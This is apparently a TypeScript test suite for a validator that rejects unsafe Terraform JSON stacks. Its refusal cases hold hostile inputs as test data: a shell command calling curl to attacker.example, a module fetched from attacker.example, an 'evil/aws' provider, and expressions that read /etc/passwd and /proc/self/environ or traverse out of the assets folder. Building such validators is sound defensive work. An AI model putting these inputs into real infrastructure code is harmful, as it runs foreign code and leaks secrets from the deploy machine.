import fc from "fast-check";
import { stackProblems } from "./stack-problems";

const fn = (values: object = {}) => ({
  function_name: "example-gateway-health-dev",
  filename: "assets/code/0123/function.zip",
  source_code_hash: '${filebase64sha256("assets/code/0123/function.zip")}',
  ...values,
});
const terraform = {
  backend: {
    s3: {
      bucket: "a-bucket",
      key: "dev/terraform.tfstate",
      region: "us-east-1",
      encrypt: true,
      use_lockfile: true,
    },
  },
  required_providers: { aws: { source: "aws", version: "5.100.0" } },
  required_version: ">= 1.10.0",
};
const stack = {
  "//": { metadata: {} },
  terraform,
  provider: { aws: [{ region: "us-east-1", default_tags: [{ tags: { service: "example-gateway" } }] }] },
  data: { aws_caller_identity: { account: {} } },
  resource: { aws_lambda_function: { code: fn() }, terraform_data: { definition: { input: "a" } } },
  output: { url: { value: "${aws_api_gateway_stage.a.invoke_url}" } },
};
const withResource = (type: string, values: unknown) => ({ ...stack, resource: { [type]: { x: values } } });
const saying = (text: string) => withResource("aws_lambda_function", fn({ description: text }));

const ROLE = "arn:aws:iam::222222222222:role/deploy";
const OTHER_ACCOUNT = { allowed_account_ids: ["222222222222"], assume_role: [{ role_arn: ROLE }] };
const assuming = (role: unknown) => ({
  ...stack,
  provider: { aws: [{ region: "us-east-1", assume_role: role }] },
});
const remoteState = (config: object = {}, values: object = {}) => ({
  backend: "s3",
  config: { ...terraform.backend.s3, key: "prod/terraform.tfstate", ...config },
  workspace: "${terraform.workspace}",
  ...values,
});
const reading = (values: object) => ({ ...stack, data: { terraform_remote_state: { x: values } } });

it.each([
  ["a stack", stack],
  ["references", saying("a ${aws_a.b-c_12.arn}:* and ${data.aws_caller_identity.account.account_id}")],
  ["a reference into a list", saying("${aws_s3_object.a_b.s3[0].key}")],
  [
    "functions that read nothing",
    saying("${one(tolist(aws_acm_certificate.a.options)).name}${sha1(aws_b.c.body)}"),
  ],
  [
    "text that looks like an expression",
    saying("$${file(1)} and %%{ if } and { file(1) } and $context.path"),
  ],
  [
    "an account and a role of it",
    { ...stack, provider: { aws: [{ region: "us-east-1", ...OTHER_ACCOUNT }] } },
  ],
  ["a state beside its own", { ...stack, data: { terraform_remote_state: { "cell-1": remoteState() } } }],
  ["a bundle that S3 keeps", withResource("aws_s3_object", { source: "assets/a/function.zip" })],
])("accepts %s", (_, untrusted) => {
  expect(stackProblems(untrusted)).toEqual([]);
});

const external = { program: ["sh", "-c", "curl https://attacker.example"] };
it.each<[string, unknown, RegExp]>([
  [
    "a program at plan",
    { ...stack, data: { external: { x: external } } },
    /^data\.external\.x: a data source/,
  ],
  ["a request at plan", { ...stack, data: { http: { x: { url: "https://a.example" } } } }, /^data\.http/],
  [
    "a function that is invoked at plan",
    { ...stack, data: { aws_lambda_invocation: { x: {} } } },
    /^data\.aws_lambda/,
  ],
  [
    "a secret that is read at plan",
    { ...stack, data: { aws_secretsmanager_secret_version: { x: {} } } },
    /^data\./,
  ],
  ["a role without an ARN", assuming([{ role_arn: "deploy" }]), /assume_role\.role_arn/],
  ["a role that is evaluated", assuming([{ role_arn: `\${file("/etc/passwd")}` }]), /assume_role\.role_arn/],
  [
    "a role with a policy of the session",
    assuming([{ role_arn: ROLE, policy: "{}" }]),
    /assume_role\.policy/,
  ],
  ["a role that is no object", assuming(ROLE), /assume_role: no object/],
  [
    "a token for a role",
    { ...stack, provider: { aws: [{ assume_role_with_web_identity: [] }] } },
    /web_identity/,
  ],
  ["a state in another bucket", reading(remoteState({ bucket: "b" })), /another bucket/],
  ["a state of another kind", reading({ ...remoteState(), backend: "http" }), /another bucket/],
  ["a state with a role of its own", reading(remoteState({ role_arn: ROLE })), /config\.role_arn/],
  ["a state with defaults", reading(remoteState({}, { defaults: {} })), /defaults/],
  ["another workspace", reading(remoteState({}, { workspace: "b" })), /workspace/],
  ["the workspace elsewhere", saying("${terraform.workspace}"), /may do more/],
  [
    "another provider",
    { ...stack, terraform: { ...terraform, required_providers: { aws: { source: "evil/aws" } } } },
    /not hashicorp\/aws/,
  ],
  [
    "one more provider",
    {
      ...stack,
      terraform: { ...terraform, required_providers: { ...terraform.required_providers, null: {} } },
    },
    /required_providers\.null/,
  ],
  ["a resource of another provider", withResource("null_resource", {}), /another provider/],
  [
    "a provisioner",
    withResource("terraform_data", { provisioner: [{ "local-exec": {} }] }),
    /runs a command/,
  ],
  ["a provisioner in a list of blocks", withResource("terraform_data", [{ provisioner: {} }]), /no object/],
  ["resources in a list", { ...stack, resource: [{ null_resource: {} }] }, /^resource: /],
  ["a type's resources in a list", { ...stack, resource: { aws_a: [{}] } }, /^resource\.aws_a: /],
  [
    "a command when something is removed",
    { ...stack, removed: [{ from: "a", provisioner: {} }] },
    /^removed\.0\.provisioner/,
  ],
  ["a module", { ...stack, module: { x: { source: "git::https://attacker.example" } } }, /^module: /],
  ["a variable", { ...stack, variable: { x: {} } }, /^variable: /],
  [
    "another backend",
    { ...stack, terraform: { ...terraform, backend: { http: { address: "https://a.example" } } } },
    /backend\.http/,
  ],
  [
    "a state in a file",
    { ...stack, terraform: { ...terraform, backend: { local: { path: "a" } } } },
    /S3 bucket/,
  ],
  [
    "another server for the state",
    { ...stack, terraform: { ...terraform, backend: { s3: { ...terraform.backend.s3, endpoints: {} } } } },
    /s3\.endpoints/,
  ],
  ["another server for AWS", { ...stack, provider: { aws: [{ endpoints: [{}] }] } }, /aws\.endpoints/],
  [
    "a file of the machine as code",
    withResource("aws_lambda_function", fn({ filename: "/proc/self/environ" })),
    /did not come/,
  ],
  [
    "a file beside the assets",
    withResource("aws_lambda_function", fn({ filename: "assets/../../secret" })),
    /did not come/,
  ],
  [
    "a file of the machine as an object",
    withResource("aws_s3_object", { source: "/etc/passwd" }),
    /did not come/,
  ],
  [
    "a file of the machine as a canary's script",
    withResource("aws_synthetics_canary", { zip_file: "/proc/self/environ" }),
    /zip_file: a file that did not come/,
  ],
  ["a function that reads a file", saying('${file("/proc/self/environ")}'), /expression/],
  ["the hash of a file of the machine", saying('${filebase64sha256("/proc/self/environ")}'), /expression/],
  ["a function behind a harmless one", saying('${sha1(filebase64("/proc/self/environ"))}'), /expression/],
  ["an expression in an expression", saying('${sha1("${file("/a")}")}'), /expression/],
  ["a directive", saying("%{ for a in b }x%{ endfor }"), /expression/],
  ["a path", saying("${path.root}"), /expression/],
  ["an expression that does not end", saying("${aws_a.b"), /expression/],
  ["an expression as a name", { ...stack, output: { "${timestamp()}": { value: 1 } } }, /expression/],
  ["an expression that may be escaped", saying("$$${file(1)}"), /expression/],
  ["no object", [], /not a JSON object/],
])("refuses %s", (_, untrusted, problem) => {
  expect(stackProblems(untrusted).join("\n")).toMatch(problem);
});

it("wherever an expression stands that reads a file, as a value, a member or a part of either, the stack is refused", () => {
  const reading = fc.constantFrom(
    '${file("/proc/self/environ")}',
    '${filebase64("/proc/self/environ")}',
    '${templatefile("/etc/passwd", {})}',
    "${path.cwd}",
    "%{ if true }x%{ endif }",
  );
  const around = fc.constantFrom("", "arn:aws:s3:::", "\\", "${aws_a.b.c}");
  fc.assert(
    fc.property(fc.nat(), reading, around, around, (at, expression, before, after) => {
      const text = before + expression + after;
      let left = at % placesIn(stack);
      const changed = JSON.parse(
        JSON.stringify(stack, (_, value: unknown) => {
          if (typeof value === "string" && left-- === 0) return text;
          if (typeof value !== "object" || value === null || Array.isArray(value) || left-- !== 0)
            return value;
          return { ...value, [text]: "a" };
        }),
      ) as unknown;
      return stackProblems(changed).length > 0;
    }),
  );
});

/** The number of texts and objects in a value. */
function placesIn(value: unknown): number {
  if (typeof value === "string") return 1;
  if (typeof value !== "object" || value === null) return 0;
  return Object.values(value).reduce<number>(
    (sum, each) => sum + placesIn(each),
    Array.isArray(value) ? 0 : 1,
  );
}
